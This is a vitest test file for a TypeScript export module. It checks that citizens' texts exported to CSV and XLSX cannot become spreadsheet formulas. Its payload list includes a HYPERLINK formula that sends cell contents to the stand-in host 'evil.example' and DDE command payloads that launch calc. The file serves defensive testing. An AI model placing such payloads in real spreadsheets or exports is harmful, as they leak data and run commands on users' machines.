import { describe, expect, it } from 'vitest';
import { readFileSync } from 'node:fs';
import { PassThrough } from 'node:stream';
import ExcelJS from 'exceljs';
import { writeCsv, writeXlsx, type TableSource } from '../modules/exports/table-file';

/**
 * CSV/XLSX injection: citizens' texts that start with = + - @ (or a tab / carriage return before
 * them) must not become formulas when an export is opened in Excel or LibreOffice.
 */
const PAYLOADS = readFileSync(new URL('../../e2e/fixtures/xss-payloads.txt', import.meta.url), 'utf8').split('\n').filter((l) => l.trim() && !l.startsWith('# '));
const FORMULAS = ['=1+1', '=HYPERLINK("http://evil.example/?"&A1,"ссылка")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)', '\t=1+1', '\r=1+1', ...PAYLOADS];
const source = (): TableSource => ({
  sheet: 'Обращения',
  timeZone: 'Europe/Saratov',
  columns: [
    { header: 'Текст', type: 'text', width: 40 },
    { header: '=Заголовок', type: 'text', width: 10 },
  ],
  rows: (async function* () {
    for (const f of FORMULAS) yield [f, f];
  })(),
});
async function collect(write: (out: PassThrough) => Promise<number>): Promise<Buffer> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  const done = new Promise((r) => out.on('end', r));
  await write(out);
  await done;
  return Buffer.concat(chunks);
}
const dangerous = (s: string) => /^[=+\-@\t\r]/.test(s);

describe('exports of citizens’ texts', () => {
  it('XLSX: every text stays a string cell, never a formula', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await collect((out) => writeXlsx(out, source()))) as never);
    const ws = wb.worksheets[0];
    let texts = 0;
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type, String(cell.value)).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string' && dangerous(cell.value.trimStart())) texts++;
      }),
    );
    // Strings that look like formulas are kept as text (Excel shows them, does not compute them).
    expect(texts).toBeGreaterThan(0);
  });

  it('CSV: a field that would start a formula is neutralised (prefixed with an apostrophe)', async () => {
    const csv = (await collect((out) => writeCsv(out, source()))).toString('utf8').replace(/^\uFEFF/, '');
    const fields = csv
      .split('\r\n')
      .filter(Boolean)
      .flatMap((line) => line.split(';'))
      .map((f) => (f.startsWith('"') ? f.slice(1) : f));
    const bad = fields.filter(dangerous);
    expect(bad).toEqual([]);
  });
});
